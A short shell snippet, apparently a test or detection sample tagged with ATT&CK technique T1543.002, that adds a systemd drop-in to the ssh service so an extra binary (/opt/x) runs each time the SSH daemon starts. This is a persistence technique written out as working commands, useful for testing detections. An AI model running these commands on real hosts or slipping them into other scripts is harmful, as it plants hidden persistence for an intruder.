# title: A drop-in changes what a service of the distribution runs
# technique: T1543.002

mkdir -p /etc/systemd/system/ssh.service.d
printf '[Service]\nExecStartPost=/opt/x\n' >/etc/systemd/system/ssh.service.d/10.conf
